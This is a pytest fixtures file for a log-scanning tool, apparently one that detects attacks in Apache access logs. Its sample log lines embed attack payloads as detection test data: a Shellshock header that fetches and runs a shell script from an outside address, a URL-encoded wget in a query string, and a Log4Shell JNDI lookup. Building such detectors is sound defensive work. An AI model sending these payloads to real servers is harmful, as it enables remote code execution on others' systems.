"""Shared fixtures: the repo's sample logs, the external corpus (skipped when absent), a CLI runner."""

from __future__ import annotations

import json
import os
import tempfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dropscan.engine import default_signatures
from dropscan.scanner import Scanner

# compiled hyperscan databases: a per-session cache, never the user's ~/.cache
os.environ.setdefault("DROPSCAN_CACHE_DIR", tempfile.mkdtemp(prefix="dropscan-test-cache-"))

ROOT = Path(__file__).resolve().parents[1]
SAMPLE_LOGS = ROOT / "sample_logs"
CORPUS = Path(os.environ.get("DROPSCAN_CORPUS", ROOT.parent / "shared" / "corpus"))

# Lines written by a real Apache 2.4.71 (Debian 12), from ../shared/reference/ecosystem.md §1.5.
REAL_APACHE_LINES = [
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET /cgi-bin/status HTTP/1.1" 404 493 "-" "() { :; }; /bin/bash -c \"wget http://198.51.100.7/a.sh -O /tmp/a.sh; sh /tmp/a.sh\""',  # noqa: E501
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET /index.html HTTP/1.0" 400 525 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET /caf\xc3\xa9/\xff?cmd=wget%20http%3A%2F%2F203.0.113.50%2Fx HTTP/1.1" 404 493 "-" "tab\there back\\slash"',  # noqa: E501
    rb'127.0.0.1 - - [27/Nov/2026:17:15:03 +0000] "GET //${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 404 493 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:58 +0000] "\x16\x03\x01" 400 525 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:58 +0000] "TRACE / HTTP/1.1" 405 510 "-" "-"',
    rb'127.0.0.1 - - [27/Nov/2026:17:15:58 +0000] "GET /a\"b HTTP/1.1" 404 485 "x\" 200 1 \"y" "-"',
]


@pytest.fixture(scope="session")
def sigs():
    return default_signatures()


@pytest.fixture(scope="session")
def full_scanner(sigs):
    return Scanner(sigs, fast=False)


@pytest.fixture(scope="session")
def fast_scanner(sigs):
    sc = Scanner(sigs, fast=True)
    if not sc.fast:
        pytest.skip("hyperscan is not installed: no fast path on this platform")
    return sc


@pytest.fixture()
def runner():
    return CliRunner()


def corpus_cases(source: str | None = None):
    """Cases from ../shared/corpus/*/cases.jsonl; skips the test when the corpus is absent."""
    if not CORPUS.is_dir():
        pytest.skip(f"external corpus not found at {CORPUS}")
    dirs = [CORPUS / source] if source else sorted(p for p in CORPUS.iterdir() if (p / "cases.jsonl").is_file())
    out = []
    for d in dirs:
        with open(d / "cases.jsonl", encoding="utf-8") as fh:
            out.extend(json.loads(line) for line in fh if line.strip())
    return out


def combined_line(
    target: str = "/",
    ua: str = "Mozilla/5.0",
    referer: str = "-",
    status: int = 200,
    client: str = "203.0.113.1",
    when: str = "[27/Nov/2026:10:00:00 +0000]",
) -> bytes:
    """A combined-format line as Apache would log it (fields Apache-escaped)."""
    from dropscan.logformat import apache_escape

    return (
        f'{client} - - {when} "GET {apache_escape(target)} HTTP/1.1" {status} 100 '
        f'"{apache_escape(referer)}" "{apache_escape(ua)}"\n'
    ).encode()
